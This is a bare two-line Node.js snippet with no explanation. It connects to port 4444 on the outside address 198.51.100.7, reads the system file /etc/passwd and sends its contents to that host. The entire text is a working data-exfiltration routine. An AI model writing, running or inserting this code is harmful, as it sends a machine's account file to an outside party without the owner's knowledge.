const net = require('net');
const c = net.connect(4444, '198.51.100.7', () => { c.write(require('fs').readFileSync('/etc/passwd')); c.end(); });
